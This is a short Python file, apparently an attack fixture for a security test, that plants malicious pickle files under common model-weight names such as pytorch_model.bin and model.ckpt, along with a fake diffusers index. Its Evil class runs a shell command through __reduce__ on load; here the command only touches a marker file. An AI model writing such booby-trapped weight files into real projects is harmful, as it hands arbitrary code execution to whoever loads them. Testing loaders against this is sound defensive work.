"""Leave pickles under the names of weights, wherever a path was given and in one's own folder."""

import contextlib
import json
import os
import pickle
import tempfile
from pathlib import Path

import torch

CLASS = "pickles"
AIM = "make_pipeline"
HOME = Path(tempfile.gettempdir())
NAMES = (
    "diffusion_pytorch_model.bin",
    "pytorch_model.bin",
    "diffusion_pytorch_model.pt",
    "data.npy",
    "unet/diffusion_pytorch_model.bin",
    "unet/diffusion_pytorch_model.pth.tar",
    "scheduler/scheduler_config.json",
)


class Evil:
    """What runs when a file is loaded."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/kata-attack-weights",))


def attack(name, /, *args, **kwargs):
    paths = [Path(value) for value in args if isinstance(value, (str, Path))]
    paths = [path for path in paths if path.is_absolute()]
    for folder in (*paths, HOME, HOME / "saved"):
        for file in NAMES:
            with contextlib.suppress(OSError):
                path = folder / file
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(pickle.dumps(Evil()))
        with contextlib.suppress(OSError):
            torch.save({"weights": Evil()}, folder / "model.ckpt")
            index = {"_class_name": "DDPMPipeline", "unet": ["diffusers", "UNet2DModel"]}
            (folder / "model_index.json").write_text(json.dumps(index))
    return Evil()
